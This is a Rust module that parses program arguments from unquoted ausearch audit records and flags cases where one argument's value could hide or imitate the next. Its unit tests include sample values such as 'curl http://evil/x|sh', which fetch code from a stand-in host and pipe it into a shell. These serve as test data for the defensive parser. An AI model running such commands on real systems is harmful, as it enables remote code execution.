//! The arguments of a program as `ausearch -i` writes them, without quotes: `argc=3 a0=sh a1=-c a2=id; a3=x`.

use super::interpreted::{add, ambiguous};
use super::record::Part;

/// What may begin an argument: `a2=`, or `a2_len=` of one that comes in pieces, which stay as they are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Mark<'a> {
    number: usize,
    name: &'a str,
    /// Where the word begins, and where the argument does.
    at: usize,
    since: usize,
}

/// Reads a record of arguments by their numbers: each reaches to the next one. Whoever chooses an argument can write
/// what looks like the next one into it; where the arguments can be told apart in several ways, the first that is
/// unsure holds all the rest. False where the record is none of arguments.
pub fn read<'a>(part: &mut Part<'a>, body: &'a str) -> bool {
    let (count, text) = match body.strip_prefix("argc=") {
        Some(rest) => rest.split_once(' ').unwrap_or((rest, "")),
        None => ("", body),
    };
    let marks = marks(text);
    let Some(first) = marks.first().filter(|mark| mark.at == 0) else {
        return false;
    };
    if !count.is_empty() {
        add(part, "argc", count);
    }
    // A long list goes on in further records, which have no count.
    let most = count.parse().unwrap_or(usize::MAX);
    let early = earliest(&marks, first.number, most);
    let n_sure = n_sure(&early, &marks);
    for (n, mark) in early[..n_sure].iter().enumerate() {
        let next = early.get(n + 1).filter(|_| n + 1 < n_sure);
        // One space stands between.
        let until = next.map_or(text.len(), |next| next.at.saturating_sub(1));
        add(part, mark.name, text.get(mark.since..until).unwrap_or_default());
    }
    if n_sure < early.len() {
        let name = early.get(n_sure - 1).map_or("", |mark| mark.name);
        ambiguous(part, name.to_owned(), body);
    }
    true
}

fn marks(text: &str) -> Vec<Mark<'_>> {
    let mut at = 0;
    let words = text.split(' ').filter_map(|word| {
        let begin = at;
        at += word.len() + 1;
        mark(word, begin)
    });
    words.collect()
}

fn mark(word: &str, at: usize) -> Option<Mark<'_>> {
    let (name, _) = word.split_once('=')?;
    let (name, since) = match name.strip_suffix("_len") {
        Some(name) => (name, at),
        None => (name, at + name.len() + 1),
    };
    let digits = name.strip_prefix('a')?;
    let is_number = digits.bytes().all(|b| b.is_ascii_digit()) && (digits == "0" || !digits.starts_with('0'));
    let number = digits.parse().ok().filter(|_| is_number)?;
    Some(Mark {
        number,
        name,
        at,
        since,
    })
}

/// The arguments from this number on, each where it can begin first.
fn earliest<'a>(marks: &[Mark<'a>], first: usize, most: usize) -> Vec<Mark<'a>> {
    let mut found: Vec<Mark<'a>> = Vec::new();
    for mark in marks {
        if mark.number.checked_sub(first) == Some(found.len()) && (found.is_empty() || mark.number < most) {
            found.push(*mark);
        }
    }
    found
}

/// How many arguments, from the first on, begin where they do whichever way they are told apart.
fn n_sure(early: &[Mark<'_>], marks: &[Mark<'_>]) -> usize {
    let mut n_sure = early.len();
    let mut awaited = early.iter().enumerate().skip(1).rev().peekable();
    for mark in marks.iter().rev() {
        let Some((n, first)) = awaited.next_if(|(_, first)| first.number == mark.number) else {
            continue;
        };
        if first.at != mark.at {
            n_sure = n;
        }
    }
    n_sure
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(body: &str) -> Option<String> {
        let mut part = Part::default();
        let fields = |part: &Part<'_>| {
            let fields = part.fields.iter().map(|(name, value)| format!("{name}={value}"));
            fields.collect::<Vec<_>>().join(";")
        };
        read(&mut part, body).then(|| fields(&part))
    }

    #[test]
    fn an_argument_hides_no_other_one() {
        for (body, expected) in [
            ("argc=2 a0=ls a1=-l", Some("argc=2;a0=ls;a1=-l")),
            // A later number within an argument cannot be meant: all of them must fit.
            (
                "argc=4 a0=sh a1=-c a2=curl http://evil/x|sh a3=y a2=z",
                Some("argc=4;a0=sh;a1=-c;a2=curl http://evil/x|sh;a3=y a2=z"),
            ),
            (
                "argc=4 a0=sh a1=-c a2=curl evil|sh a3=x a3=y",
                Some("argc=4;a0=sh;a1=-c;a2=curl evil|sh a3=x a3=y;ambiguous=a2"),
            ),
            (
                "argc=3 a0=sh a1=x a1=y a2=z pid=1",
                Some("argc=3;a0=sh a1=x a1=y a2=z pid=1;ambiguous=a0"),
            ),
            ("argc=2 a0=a  b a1= c a7=d", Some("argc=2;a0=a  b;a1= c a7=d")),
            ("argc=1 a0=a a1=b", Some("argc=1;a0=a a1=b")),
            ("a35=x a36=unknown(5)", Some("a35=x;a36=unknown(5)")),
            (
                "argc=2 a0=sh a1_len=9 a1[0]=abcde a1[1]=fghi",
                Some("argc=2;a0=sh;a1=a1_len=9 a1[0]=abcde a1[1]=fghi"),
            ),
            ("argc=1 x a0=b", None),
            ("", None),
        ] {
            assert_eq!(shown(body).as_deref(), expected, "{body}");
        }
    }
}
